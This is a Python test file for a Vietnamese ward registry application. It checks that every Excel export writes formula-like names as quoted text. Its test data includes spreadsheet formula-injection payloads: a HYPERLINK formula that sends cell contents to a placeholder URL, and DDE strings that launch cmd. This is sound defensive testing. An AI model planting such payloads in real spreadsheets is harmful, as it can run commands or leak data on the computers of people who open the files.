"""Issue 21 F3: no workbook the application writes carries a live formula made of someone's text.

A head's name `=HYPERLINK("http://x"&A1,"Bấm vào")` typed into the registry must come out of every export as
that text, never as a formula Excel runs when the list is opened at the city or the province.
"""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from vanhoa.imports import xlsx
from vanhoa.registry import services as registry
from vanhoa.testing.actors import TEST

NAME = '=HYPERLINK("http://x"&A1,"Bấm vào")'
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tTab", "\r=1+1"]
VANHOA = Path(__file__).resolve().parents[2]


def live_formulas(data: bytes) -> list[str]:
    """The formulas stored in the workbook's sheets (the <f> elements)."""
    out = []
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                out += [f.decode() for f in re.findall(rb"<f(?:\s[^>]*)?>(.*?)</f>", z.read(name), re.S)]
    return out


def texts(data: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(data))
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


def assert_written_as_text(data: bytes, *names: str) -> None:
    assert not [f for f in live_formulas(data) if "HYPERLINK" in f or "cmd" in f], live_formulas(data)
    found = texts(data)
    for name in names:
        assert name in found, (name, found[:20])
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value in names:
                    assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value)


def test_the_one_writer_keeps_text_as_text_and_only_the_applications_own_formulas_live():
    wb = Workbook()
    ws = wb.active
    ws.append(["Họ và tên", "Số"])
    for i, name in enumerate([NAME, *OTHERS], start=2):
        ws.append([name, i])
    xlsx.formula(ws, 9, 2, "=SUM(B2:B7)")
    data = xlsx.save(wb)
    assert live_formulas(data) == ["SUM(B2:B7)"]
    assert_written_as_text(data, NAME, *OTHERS)


def test_write_table_writes_formula_like_text_as_text():
    data = xlsx.write_table("Danh sách", ["Họ và tên", "Ghi chú"], [[NAME, o] for o in OTHERS])
    assert_written_as_text(data, NAME, *OTHERS)


def test_every_workbook_writer_goes_through_the_one_writer():
    # a module that builds an openpyxl Workbook saves it with xlsx.save (or is xlsx.py itself)
    offenders = []
    for path in VANHOA.rglob("*.py"):
        if "tests" in path.parts or path.name == "xlsx.py":
            continue
        text = path.read_text(encoding="utf-8")
        if "Workbook(" in text and re.search(r"\bwb\.save\(|\.save\(buf\)", text):
            offenders.append(str(path.relative_to(VANHOA)))
    assert offenders == []


@pytest.fixture
def hostile_registry(world):
    """A household, an agency and a street whose names are formulas."""
    world.household(world.groups[0], NAME, code="QT-001", address="=1+1")
    registry.create_agency(actor=TEST, ward=world.ward, name=NAME, group=world.groups[0], address="@x")
    registry.create_street(actor=TEST, ward=world.ward, name=NAME, stretch="-ngã ba", groups=[world.groups[0]])


def test_the_household_agency_and_street_exports_write_the_names_as_text(world, hostile_registry, client_for):
    client = client_for(world.users["front_officer"])
    assert_written_as_text(client.get("/excel/xuat/ho-gia-dinh/").content, NAME, "=1+1")
    client = client_for(world.users["union_officer"])
    assert_written_as_text(client.get("/excel/xuat/co-quan/").content, NAME, "@x")
    client = client_for(world.users["culture_officer"])
    assert_written_as_text(client.get("/excel/xuat/tuyen-pho/").content, NAME, "-ngã ba")


def test_the_household_template_and_the_registration_template_write_names_as_text(world, hostile_registry, client_for):
    from vanhoa.titles.rules_data import load_rules

    load_rules()
    client = client_for(world.users["front_officer"])
    assert_written_as_text(client.get("/excel/mau/registrations/?nam=2025").content, NAME)
    world.groups[0].name = "=cmd|' /C calc'!A0"
    assert_written_as_text(xlsx_template([world.groups[0].name]), "=cmd|' /C calc'!A0")


def xlsx_template(groups):
    from vanhoa.imports.parsing import build_template

    return build_template(groups)


def test_the_public_contributions_list_writes_donor_names_as_text(world, client_for):
    from vanhoa.activities import funding

    funding.record_contribution(actor=TEST, ward=world.ward_2020, donor_name=NAME, value=1_000_000,
                                received_on=date(2020, 11, 2))  # fmt: skip
    data = client_for(world.users["front_officer"]).get("/hoat-dong/kinh-phi/cong-khai.xlsx?nam=2020").content
    assert_written_as_text(data, NAME)


def test_the_title_document_lists_write_names_as_text():
    from vanhoa.titles.document_lists import xlsx as list_xlsx

    data = list_xlsx("QĐ 1", ["STT", "Họ và tên chủ hộ"], [[1, NAME], [2, "+84 912"]])
    assert_written_as_text(data, NAME, "+84 912")
